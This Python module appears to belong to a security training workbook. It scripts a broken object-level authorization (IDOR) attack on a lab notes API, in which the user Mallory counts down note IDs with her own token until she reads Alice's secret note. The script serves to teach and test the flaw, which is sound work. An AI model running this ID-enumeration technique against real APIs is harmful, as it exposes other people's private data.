"""Mallory writes a note of her own, is told its number, and asks for the numbers below it.

It works where a note is looked up by its number alone: her token is good, and nobody asks whose.
"""

from workbook.attacking import Api, attack, reach


@attack(
    "Read a stranger's notes by counting",
    route="GET /notes/{id}",
    closes=8,
    see="OWASP API1:2023",
    catches="AZ-01",
)
def read_by_counting(api: Api) -> str | None:
    reach(api.get("/notes", caller="mallory"))
    alice, mallory = api.alice, api.mallory
    secret = {"title": "For me alone", "body": "The key is under the third pot"}
    reach(api.post("/notes", json=secret, token=alice.token, caller=alice.username))
    mine = {"title": "Mine", "body": "A note to learn a number"}
    own = api.post("/notes", json=mine, token=mallory.token, caller=mallory.username)
    newest = own.json["id"] if own.status == 201 else 2
    for number in range(newest - 1, 0, -1):
        path = f"/notes/{number}"
        seen = api.get(path, token=mallory.token, caller=mallory.username)
        if seen.status == 200 and secret["body"] in seen.text:
            return f"Alice's note {number}: {secret['body']}"
    return None
